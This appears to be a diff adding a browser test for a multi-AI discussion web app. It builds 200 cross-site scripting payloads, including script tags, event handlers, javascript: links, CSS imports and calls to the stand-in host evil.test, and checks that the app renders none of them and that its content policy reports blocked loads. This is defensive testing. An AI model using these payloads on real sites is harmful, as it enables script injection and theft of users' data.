@@ -1,0 +1,171 @@
+// 200 texts that would run, if anything here made markup of text: as questions, as speeches, as votes, on every page.
+
+import { assert, scenario } from './harness.mjs';
+
+const CALLS = ['alert(1)', 'confirm(2)', 'prompt(3)', "fetch('//evil.test/x')", "import('//evil.test/m.js')"];
+
+const SHAPES = [
+  (js) => `<script>${js}</script>`,
+  (js) => `<img src=x onerror="${js}">`,
+  (js) => `<svg onload="${js}">`,
+  (js) => `"><script>${js}</script>`,
+  (js) => `'><img src=x onerror=${js}>`,
+  (js) => `<iframe srcdoc="<script>${js}</script>"></iframe>`,
+  (js) => `<iframe src="javascript:${js}"></iframe>`,
+  (js) => `[click](javascript:${js})`,
+  (js) => `[click](JaVaScRiPt:${js} "t")`,
+  (js) => `[click](data:text/html,<script>${js}</script>)`,
+  (js) => `![x](https://evil.test/p.png?${encodeURIComponent(js)})`,
+  (js) => `![x](x" onerror="${js})`,
+  (js) => `<javascript:${js}>`,
+  (js) => `[a]( https://evil.test/"onmouseover="${js} )`,
+  (js) => `<style>@import '//evil.test/a.css';*{background:url(//evil.test/${encodeURIComponent(js)})}</style>`,
+  (js) => `<link rel=stylesheet href=//evil.test/a.css onload=${js}>`,
+  (js) => `<meta http-equiv=refresh content="0;url=javascript:${js}">`,
+  (js) => `<base href=//evil.test/><script src=x>${js}</script>`,
+  (js) => `<object data="javascript:${js}"></object>`,
+  (js) => `<embed src="javascript:${js}">`,
+  (js) => `<details open ontoggle=${js}>x</details>`,
+  (js) => `<input autofocus onfocus=${js}>`,
+  (js) => `<form action="javascript:${js}"><button>x</button></form>`,
+  (js) => `</title><script>${js}</script>`,
+  (js) => `</textarea><script>${js}</script>`,
+  (js) => `</noscript><script>${js}</script>`,
+  (js) => `--><script>${js}</script>`,
+  (js) => `]]><script>${js}</script>`,
+  (js) => `\`\`\`html\n<script>${js}</script>\n\`\`\``,
+  (js) => `\`<script>${js}</script>\``,
+  (js) => `| a | b |\n|---|---|\n| <img src=x onerror=${js}> | [x](javascript:${js}) |`,
+  (js) => `# <svg/onload=${js}>`,
+  (js) => `- <img src=//evil.test/i onerror=${js}>`,
+  (js) => `> <video><source onerror=${js}></video>`,
+  (js) => `**<body onload=${js}>**`,
+  (js) => `&lt;script&gt;${js}&lt;/script&gt;`,
+  (js) => `{"choice":"<img src=x onerror=${js}>","confidence":1,"reasoning":"[x](javascript:${js})"}`,
+  (js) => `\u202e<script>${js}</script>\u0000`,
+  (js) => `<math><mtext></form><form><mglyph><style></math><img src onerror=${js}>`,
+  (js) => `\${${js}}{{constructor.constructor('${js}')()}}`,
+];
+
+const PAYLOADS = SHAPES.flatMap((shape) => CALLS.map(shape));
+const HALF = 100;
+
+/** Nothing on the page that was not put there by us. */
+const strange = () =>
+  [
+    ...document.querySelectorAll(
+      '#app :is(script, iframe, object, embed, style, link, base, meta, video, audio, form[action], svg image), #app img:not([src="/assets/icon.svg"])',
+    ),
+  ]
+    .map((it) => it.outerHTML.slice(0, 200))
+    .concat(
+      [...document.querySelectorAll('*')].flatMap((it) =>
+        [...it.attributes]
+          .filter(
+            ({ name }) =>
+              /^on|^srcdoc$|^style$/.test(name) && !(name === 'style' && !/url|import/i.test(it.style.cssText)),
+          )
+          .map(({ name, value }) => `${name}=${value}`),
+      ),
+      [...document.querySelectorAll('a[href]')]
+        .filter((it) => !['http:', 'https:', 'blob:'].includes(it.protocol))
+        .map((it) => it.href),
+    );
+
+await scenario('[defaults]\nsimulate = "latency=0ms"\nseed = 3\n', async (server, open) => {
+  assert.equal(PAYLOADS.length, 200);
+  const page = await open();
+  const look = async (path, ready) => {
+    await page.goto(server.base + path);
+    await page.waitForFunction(ready);
+    await page.evaluate(() => new Promise((done) => requestAnimationFrame(() => setTimeout(done))));
+    assert.deepEqual(await page.evaluate(strange), [], path);
+    assert.deepEqual(await page.evaluate(() => reports), [], path);
+  };
+
+  // As questions: in the list of all, and each tenth on a page of its own, where the voices quote it.
+  const ids = [];
+  for (const from of [0, HALF]) {
+    const ordered = PAYLOADS.slice(from, from + HALF).map((topic) =>
+      server.post('/api/discussions', { topic, rounds: 1, providers: ['claude', 'gemini'] }),
+    );
+    ids.push(...(await Promise.all(ordered)).map((it) => it.discussionId));
+    await look('/', () => document.querySelectorAll('.entry').length === 100);
+  }
+  for (const [at, id] of ids.entries())
+    if (at % 10 === 0) await look(`/d/${id}`, () => globalThis.quorum?.whole.conclusion);
+  await look(`/compare?a=${ids[3]}&b=${ids[120]}`, () => document.querySelector('table.figures'));
+
+  // As speeches and as remarks: all of them, twenty a turn, through the columns and the transcript.
+  const { discussionId: spoken } = await server.post('/api/discussions', {
+    topic: 'Speak.',
+    pattern: 'roundtable',
+    rounds: 10,
+    participants: ['claude', 'ada:person'],
+  });
+  await page.goto(`${server.base}/d/${spoken}`);
+  for (let turn = 0; turn < 10; turn++) {
+    await page.waitForFunction((turn) => globalThis.quorum?.whole.awaiting[0]?.round === turn + 1, turn);
+    await server.post(`/api/discussions/${spoken}/say`, {
+      text: PAYLOADS.slice(turn * 20, turn * 20 + 20).join('\n\n'),
+    });
+    if (turn < 9) await server.post(`/api/discussions/${spoken}/note`, { text: PAYLOADS[turn * 20] });
+  }
+  await page.waitForFunction(() => quorum.whole.conclusion);
+  await page.evaluate(async () => {
+    for (const it of document.querySelectorAll('.turn')) {
+      it.scrollIntoView();
+      await new Promise(requestAnimationFrame);
+    }
+  });
+  assert.ok((await page.locator('.turn .said p').count()) > 100);
+  assert.deepEqual(await page.evaluate(strange), []);
+  assert.deepEqual(await page.evaluate(() => reports), []);
+
+  // As options that are voted for.
+  const { discussionId: vote } = await server.post('/api/discussions', {
+    topic: 'Vote.',
+    pattern: 'voting',
+    rounds: 1,
+    votingOptions: PAYLOADS.slice(0, 40)
+      .filter((it) => it.length < 90 && !it.includes('\n'))
+      .slice(0, 8),
+    providers: ['claude', 'gemini', 'qwen'],
+  });
+  await look(`/d/${vote}`, () => globalThis.quorum?.whole.conclusion && document.querySelector('.tally'));
+
+  // Where there are no scripts.
+  const plain = await open({ javaScriptEnabled: false });
+  for (const id of [...ids.filter((_, at) => at % 20 === 5), spoken, vote])
+    await plain.goto(`${server.base}/d/${id}`);
+  await alarm(open);
+  console.log(`${PAYLOADS.length} payloads: no dialog, no request, no report`);
+});
+
+/** What would have been noticed, is: markup is refused, and a picture from elsewhere is reported. */
+async function alarm(open) {
+  const page = await open();
+  await page.goto('/');
+  const refused = await page.evaluate(async () => {
+    const tried = (attempt) => {
+      try {
+        attempt();
+        return 'let in';
+      } catch (error) {
+        return error.name;
+      }
+    };
+    const reported = new Promise((done) =>
+      document.addEventListener('securitypolicyviolation', done, { once: true }),
+    );
+    const markup = tried(() => (document.body.innerHTML = '<b>bold</b>'));
+    await reported;
+    new Image().src = 'http://evil.test/p.png';
+    while (!globalThis.reports.some((it) => it.startsWith('img-src')))
+      await new Promise((done) => setTimeout(done, 10));
+    return markup;
+  });
+  assert.equal(refused, 'TypeError');
+  assert.ok(page.wrong.some((it) => it.startsWith('report:')));
+  page.wrong.length = 0;
+}
